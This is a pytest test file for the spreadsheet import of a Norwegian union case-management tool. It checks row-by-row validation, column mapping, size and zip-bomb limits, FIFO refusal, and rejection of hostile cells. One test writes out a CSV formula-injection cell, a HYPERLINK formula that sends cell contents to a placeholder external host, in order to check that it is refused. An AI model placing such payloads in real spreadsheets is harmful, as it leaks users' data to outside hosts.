"""Cases from a spreadsheet (.xlsx/.csv): Norwegian column names by default, a mapping for
others, checked whole (every bad row by number), all or nothing, hostile cells refused."""

from __future__ import annotations

import io
import json
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import event, given
from hypothesis import strategies as st
from openpyxl import Workbook

from tillitsvalgt.db import Database
from tillitsvalgt.errors import UserError, ValidationError
from tillitsvalgt.services import spreadsheet, spreadsheet_import
from tillitsvalgt.services.cases import CaseQuery
from tillitsvalgt.services.transfer import export_bundle, import_bundle

from conftest import TODAY, run_cli
from helpers.attacks import ATTACK, assert_clear_refusal, nasty_text, table_counts


def _xlsx(rows: list[list[Any]], path: Path, *, formula_at: tuple[int, int] | None = None) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    if formula_at is not None:
        sheet.cell(row=formula_at[0], column=formula_at[1]).value = "=1+1"
    book.save(path)
    return path


def _import_file(db: Database, file: Path, mapping: Any = None) -> Any:
    loaded = spreadsheet_import.load_sheet(file, mapping=mapping)
    with db.session() as s:
        return import_bundle(loaded.items, session=s, today=TODAY, names=loaded.names)


HEADER = ["Saksnr.", "Tittel", "Virksomhet", "Org.nr.", "Sakstype", "Varslet", "Berørte medlemmer"]


def test_the_case_list_export_round_trips_through_xlsx_and_csv(
    db: Database, other_db: Database, scenarios: list[dict[str, Any]], tmp_path: Path
) -> None:
    with db.session() as s:
        import_bundle(scenarios, session=s, today=TODAY)
    with db.session(readonly=True) as s:
        rows = list(spreadsheet.case_rows(CaseQuery(sort="number", descending=False), session=s))
    xlsx = tmp_path / "saker.xlsx"
    csv_file = tmp_path / "saker.csv"
    xlsx.write_bytes(spreadsheet.to_xlsx(rows))
    csv_file.write_bytes(spreadsheet.to_csv(rows))

    report = _import_file(other_db, xlsx)
    assert len(report.created) == len(scenarios)
    # The CSV of the same list is the same cases: recognised, nothing new.
    again = _import_file(other_db, csv_file)
    assert again.created == [] and len(again.unchanged) == len(scenarios)
    with other_db.session(readonly=True) as s:
        got = {
            (
                c["case"]["title"],
                c["employer"]["name"],
                c["case"]["type"],
                c["case"].get("notice_on"),
            )
            for c in export_bundle(session=s)
        }
    want = {
        (r.title, r.employer_name, r.case_type, r.notice_on and r.notice_on.isoformat())
        for r in rows
    }
    assert got == want


def test_every_bad_row_is_reported_and_nothing_is_imported(db: Database, tmp_path: Path) -> None:
    rows = [
        HEADER,
        ["A1", "Faste plasser fjernes", "Nordkyst Sparebank", "952601814", "Kontorløsning",
         date(2026, 3, 1), 40],
        ["A2", "Hjemmekontor", "Nordkyst Sparebank", "952601814", "hjemmekontor-ish",
         "31.02.2026", "mange"],
        ["A3", None, "Nordkyst Sparebank", "952601814", "Annet", "1.3.2026", 3.5],
        ["A4", "Formel", "Nordkyst Sparebank", "952601814", "Annet", None, 2],
        [None, None, None, None, None, None, None],  # an empty row between is no case
        ["A6", "Feil org.nr.", "Fjordbyen kommune", "123456789", "Annet", None, None],
    ]  # fmt: skip
    file = _xlsx(rows, tmp_path / "saker.xlsx", formula_at=(5, 7))
    before = table_counts(db)
    with pytest.raises(ValidationError) as err:
        _import_file(db, file)
    text = str(err.value)
    assert_clear_refusal(err.value)
    assert "Rad 3 › Sakstype: «hjemmekontor-ish» er ikke gyldig" in text
    assert "Rad 3 › Varslet: «31.02.2026» er ikke en dato" in text
    assert "Rad 3 › Berørte medlemmer: «mange» er ikke et tall" in text
    assert "Rad 4 › Berørte medlemmer: 3.5 er ikke et heltall" in text
    assert "Rad 5 › Berørte medlemmer: er en formel" in text
    assert "Rad 2" not in text
    assert table_counts(db) == before

    # With the cell problems mended, the bundle check still finds the rest, by row.
    rows[2][4:7] = ["Hjemmekontor", "01.03.2026", 12]
    rows[3][6] = 3
    file = _xlsx(rows, tmp_path / "saker.xlsx")
    with pytest.raises(ValidationError) as err:
        _import_file(db, file)
    text = str(err.value)
    assert "Rad 4 › Sak › Tittel: mangler" in text
    assert "Rad 7 › Virksomhet › Organisasjonsnummer" in text
    assert table_counts(db) == before


def test_columns_of_another_name_are_mapped_by_a_file_or_on_the_command_line(
    sqlite_db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "mine.csv"
    file.write_text(
        "Sak;Arbeidsgiver;Hva slags;Dato varsel;Min kommentar\n"
        "Nye lokaler;Fjordbyen kommune;Lokaler og arealfordeling;02.03.2026;hei\n",
        encoding="cp1252",  # as a Norwegian Excel saves "CSV" unless told otherwise
    )
    data_dir = str(Path(str(sqlite_db.engine.url.database)).parent)
    code, _, err = run_cli(capsys, "--data-dir", data_dir, "import", str(file))
    assert code != 0
    assert "mangler en kolonne for tittel" in err and "ingenting er endret" in err

    mapping = tmp_path / "kolonner.toml"
    mapping.write_text(
        '[kolonner]\n"Sak" = "tittel"\n"Hva slags" = "sakstype"\n"Dato varsel" = "varslet"\n',
        encoding="utf-8",
    )
    code, out, err = run_cli(
        capsys, "--data-dir", data_dir, "import", str(file), "--mapping", str(mapping)
    )
    assert code == 0, err
    assert "1 nye saker" in out
    assert "«Min kommentar»" in err  # a column left out is named, not silently dropped
    code, out, _ = run_cli(capsys, "--data-dir", data_dir, "cases", "--json")
    [row] = json.loads(out)["rows"]
    assert (row["title"], row["employer_name"], row["notice_on"]) == (
        "Nye lokaler",
        "Fjordbyen kommune",
        "2026-03-02",
    )
    # The same with --column, and importing it again changes nothing.
    code, out, err = run_cli(
        capsys, "--data-dir", data_dir, "import", str(file),
        "--column", "Sak=tittel", "--column", "Hva slags=sakstype",
        "--column", "Dato varsel=varslet",
    )  # fmt: skip
    assert code == 0, err
    assert "0 nye saker" in out and "1 uendret" in out
    code, _, err = run_cli(
        capsys, "--data-dir", data_dir, "import", str(file), "--column", "Sak=tittelen"
    )
    assert code != 0 and "ukjent felt «tittelen»" in err


def test_a_csv_formula_is_refused_and_our_own_defused_text_comes_back(
    db: Database, tmp_path: Path
) -> None:
    file = tmp_path / "saker.csv"
    file.write_text(
        "Tittel;Virksomhet;Sakstype\n"
        '=HYPERLINK("http://x.example/?"&A1;"Klikk");Fjordbyen kommune;Annet\n'
        "'=1+1 er ikke en formel;Fjordbyen kommune;Annet\n",
        encoding="utf-8",
    )
    with pytest.raises(ValidationError) as err:
        _import_file(db, file)
    assert "Rad 2 › Tittel: er en formel" in str(err.value)
    assert "Rad 3" not in str(err.value)
    file.write_text(
        "Tittel;Virksomhet;Sakstype\n'=1+1 er ikke en formel;Fjordbyen kommune;Annet\n",
        encoding="utf-8",
    )
    report = _import_file(db, file)
    with db.session(readonly=True) as s:
        [case] = export_bundle(session=s)
    assert case["case"]["title"] == "=1+1 er ikke en formel"
    assert len(report.created) == 1


def test_files_too_big_to_be_a_case_list_are_refused_before_they_are_read(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    big = tmp_path / "stor.csv"
    with big.open("wb") as out:
        out.write(b"Tittel;Virksomhet;Sakstype\n")
        line = b"Sak;Fjordbyen kommune;Annet\n"
        out.write(line * (spreadsheet_import.MAX_FILE_BYTES // len(line) + 1))
    with pytest.raises(UserError, match="høyst 20 MB"):
        _import_file(db, big)

    # A zip that unpacks to far more than it weighs (the limit lowered to keep the test fast).
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Tittel", "Virksomhet", "Sakstype"])
    for _ in range(2000):
        sheet.append(["x" * 200, "Fjordbyen kommune", "Annet"])
    bomb = tmp_path / "bombe.xlsx"
    book.save(bomb)
    monkeypatch.setattr(spreadsheet_import, "MAX_UNPACKED_BYTES", bomb.stat().st_size)
    with pytest.raises(UserError, match="pakker seg ut"):
        _import_file(db, bomb)
    monkeypatch.setattr(spreadsheet_import, "MAX_ROWS", 100)
    many = tmp_path / "mange.csv"
    many.write_text("Tittel;Virksomhet;Sakstype\n" + "Sak;Fjordbyen kommune;Annet\n" * 101)
    with pytest.raises(ValidationError, match="over 100 rader"):
        _import_file(db, many)
    with db.session(readonly=True) as s:
        assert export_bundle(session=s) == []


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("ikke.xlsx", b"PK\x03\x04 not really a zip", "ikke en .xlsx-fil"),
        ("tom.xlsx", b"", "ikke en .xlsx-fil"),
        ("binaer.csv", b"Tittel\x00;x", "binære data"),
        ("tom.csv", b"\xef\xbb\xbf", "regnearket er tomt"),
        ("bare-overskrift.csv", b"Tittel;Virksomhet;Sakstype\r\n", "ingen saker"),
    ],
)
def test_broken_files_get_a_clear_message(
    db: Database, tmp_path: Path, name: str, data: bytes, expected: str
) -> None:
    file = tmp_path / name
    file.write_bytes(data)
    with pytest.raises(UserError) as err:
        _import_file(db, file)
    assert expected in str(err.value)
    assert_clear_refusal(err.value)


def test_a_real_excel_date_and_number_types_are_taken_as_they_are(
    db: Database, tmp_path: Path
) -> None:
    file = _xlsx(
        [
            [
                "Tittel",
                "Virksomhet",
                "Sakstype",
                "Beslutning",
                "Hjemmekontordager",
                "Status",
                "Utfall",
            ],
            [
                "Hjemmekontor",
                "Fjordbyen kommune",
                "home_office_policy",
                datetime(2026, 4, 1),
                2.5,
                "Avsluttet",
                "Enighet",
            ],
        ],
        tmp_path / "saker.xlsx",
    )
    _import_file(db, file)
    with db.session(readonly=True) as s:
        [case] = export_bundle(session=s)
    c = case["case"]
    assert (c["decision_on"], c["home_office_days_per_week"]) == ("2026-04-01", 2.5)
    assert (c["status"], c["outcome"]) == ("closed", "agreement")


def test_the_mapping_file_is_checked(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="ikke gyldig TOML"):
        spreadsheet_import.read_mapping("[kolonner\n", "k.toml")
    with pytest.raises(UserError, match="ukjent felt «navn»"):
        spreadsheet_import.read_mapping('[kolonner]\n"A" = "navn"\n', "k.toml")
    mapping = spreadsheet_import.read_mapping('ark = "Saker"\n[kolonner]\n"A" = "tittel"\n', "k")
    assert (mapping.sheet, mapping.columns) == ("Saker", {"a": "tittel"})


def test_the_window_s_door_imports_a_spreadsheet_and_exports_a_selection(tmp_path: Path) -> None:
    from tillitsvalgt.workspace import Workspace

    file = tmp_path / "saker.csv"
    file.write_text(
        "Tittel;Virksomhet;Sakstype\nA;Fjordbyen kommune;Annet\nB;Fjordbyen kommune;Annet\n",
        encoding="utf-8",
    )
    ws = Workspace.open(data_dir=tmp_path / "data", clock=lambda: TODAY)
    try:
        report = ws.import_file(file)
        assert len(report.created) == 2
        with ws.db.session(readonly=True) as s:
            first = export_bundle(session=s)[0]
            from tillitsvalgt.services.cases import get_case

            case_id = get_case(first["id"], session=s).id
        assert ws.export_file(tmp_path / "en.json", case_ids=[case_id]) == 1
        [only] = json.loads((tmp_path / "en.json").read_text(encoding="utf-8"))
        assert only["uuid"] == first["uuid"]
    finally:
        ws.close()


_cells = st.one_of(
    st.none(),
    nasty_text,
    st.integers(min_value=-(10**12), max_value=10**12),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.sampled_from(["Annet", "Kontorløsning", "01.03.2026", "31.02.2026", "=1+1", "'=1+1",
                     "Fjordbyen kommune", "952601814", "Avsluttet", "Enighet", "2,5"]),
)  # fmt: skip
_columns = st.one_of(
    st.lists(
        st.sampled_from([*HEADER, "Status", "Utfall", "Hjemmekontordager", "Ukjent", ""]),
        max_size=5,
    ).flatmap(lambda extra: st.permutations(["Tittel", "Virksomhet", "Sakstype", *extra])),
    st.lists(st.sampled_from([*HEADER, "Ukjent", ""]), min_size=1, max_size=4),
)


@ATTACK
@given(header=_columns, body=st.lists(st.lists(_cells, max_size=9), max_size=3))
def test_any_csv_is_imported_whole_or_refused_clearly(
    sqlite_db: Database, tmp_path_factory: pytest.TempPathFactory, header: list[str], body: Any
) -> None:
    import csv as csv_module

    out = io.StringIO()
    writer = csv_module.writer(out, delimiter=";")
    writer.writerow(header)
    good = {"Tittel": "Sak", "Virksomhet": "Fjordbyen kommune", "Sakstype": "Annet"}
    body = [[good.get(h, "") for h in header], *body]  # a good row, then hostile ones
    for row in body:
        writer.writerow(["" if v is None else v for v in row])
    file = tmp_path_factory.mktemp("ark") / "saker.csv"
    file.write_bytes(out.getvalue().encode("utf-8", errors="surrogatepass"))
    before = table_counts(sqlite_db)
    try:
        report = _import_file(sqlite_db, file)
    except UserError as exc:
        event("refused")
        assert_clear_refusal(exc)
        assert table_counts(sqlite_db) == before, "a refused sheet changed the database"
        return
    event("imported")
    assert len(report.created) + len(report.unchanged) + len(report.updated) + len(
        report.kept
    ) == sum(1 for row in body if any(str(v).strip() for v in row if v is not None))


def test_rows_naming_the_same_group_case_become_one_decision(db: Database, tmp_path: Path) -> None:
    from tillitsvalgt.services import groups

    file = tmp_path / "saker.csv"
    file.write_text(
        "Tittel;Virksomhet;Sakstype;Gruppesak\n"
        "Tromsø;Fjordbyen kommune;Kontorløsning;Nytt kontorkonsept\n"
        "Bodø;Fjordbyen kommune;Kontorløsning;Nytt kontorkonsept\n"
        "Hjemmekontor;Fjordbyen kommune;Hjemmekontor;\n",
        encoding="utf-8",
    )
    _import_file(db, file)
    with db.session(readonly=True) as s:
        assert len(groups.group_case_numbers("Nytt kontorkonsept", session=s)) == 2
        assert groups.count_decisions(session=s) == 2


def test_a_device_or_a_fifo_is_refused_at_once(db: Database, tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "saker.csv"
    os.mkfifo(fifo)
    with pytest.raises(UserError, match="ikke en vanlig fil"):
        spreadsheet_import.read_limited(Path("/dev/zero"), 1024)
    # No writer: the FIFO is refused at once (file_limits opens it non-blocking), where a
    # plain open would wait for a writer forever. A daemon thread, so a hang fails the test
    # instead of hanging the run.
    import threading

    outcome: list[BaseException] = []

    def importer() -> None:
        try:
            _import_file(db, fifo)
        except BaseException as exc:  # handed to the test thread
            outcome.append(exc)

    thread = threading.Thread(target=importer, daemon=True)
    thread.start()
    thread.join(timeout=30)
    assert not thread.is_alive(), "reading a FIFO waited for a writer"
    assert len(outcome) == 1 and isinstance(outcome[0], UserError), outcome
    assert "ikke en vanlig fil" in str(outcome[0])
